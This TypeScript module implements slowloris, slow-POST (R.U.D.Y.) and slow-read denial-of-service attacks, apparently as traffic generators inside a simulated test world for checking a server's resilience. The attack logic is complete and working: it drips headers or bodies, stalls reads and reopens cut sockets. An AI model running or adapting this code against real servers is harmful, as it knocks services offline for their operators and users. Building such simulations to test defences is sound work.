/** Attacks that hold connections instead of sending many requests: slow headers (slowloris), slow content (R.U.D.Y.), slow readers. Each that is cut opens a new one. */
import type { Socket } from 'node:net'
import { type World, attackerAddress } from '../world.ts'

export interface RawWorld extends World {
  openRaw(address: string): Socket | null
}

const REOPEN_MS = 1_000

/** Sockets that send one byte of a header every `everyMs`. */
export function slowHeaders(world: RawWorld, fromMs: number, untilMs: number, sockets: number, everyMs: number): void {
  hold(world, fromMs, untilMs, sockets, (socket, alive) => {
    socket.write(`GET / HTTP/1.1\r\nHost: ${world.host}\r\nUser-Agent: Mozilla/5.0\r\n`)
    drip(world, alive, everyMs, () => socket.write('X'))
  })
}

/** Sockets that announce a form of 100 kB and send so many bytes of it a second. */
export function slowContent(world: RawWorld, fromMs: number, untilMs: number, sockets: number, bytesPerSecond: number): void {
  hold(world, fromMs, untilMs, sockets, (socket, alive) => {
    socket.write(`POST /contact HTTP/1.1\r\nHost: ${world.host}\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n`)
    drip(world, alive, 1_000, () => socket.write('x'.repeat(bytesPerSecond)))
  })
}

/** Sockets that ask for a file of 1 MiB and read so many bytes of it a second. */
export function slowReaders(world: RawWorld, fromMs: number, untilMs: number, sockets: number, bytesPerSecond: number): void {
  hold(world, fromMs, untilMs, sockets, (socket, alive) => {
    socket.pause()
    socket.write(`GET /video.bin HTTP/1.1\r\nHost: ${world.host}\r\nUser-Agent: Mozilla/5.0\r\n\r\n`)
    drip(world, alive, 1_000, () => socket.read(bytesPerSecond))
  })
}

/** Opens them over one second, and anew when cut. */
function hold(world: RawWorld, fromMs: number, untilMs: number, sockets: number, begin: (socket: Socket, alive: () => boolean) => void): void {
  const open = (address: string): void => {
    if (world.nowMs() >= untilMs) return
    const again = (): void => world.at(world.nowMs() + REOPEN_MS, () => open(address))
    const socket = world.openRaw(address)
    if (socket === null) return again()
    let alive = true
    socket.once('close', () => {
      alive = false
      again()
    })
    // A socket that is not read does not notice its end: let it be, that is the attack.
    socket.on('end', () => socket.destroy())
    begin(socket, () => alive && world.nowMs() < untilMs)
    world.at(untilMs, () => socket.destroy())
  }
  for (let i = 0; i < sockets; i++) world.at(fromMs + (1_000 * i) / sockets, () => open(attackerAddress(world.random)))
}

function drip(world: World, alive: () => boolean, everyMs: number, act: () => void): void {
  const turn = (): void => {
    if (!alive()) return
    act()
    world.at(world.nowMs() + everyMs, turn)
  }
  world.at(world.nowMs() + everyMs, turn)
}
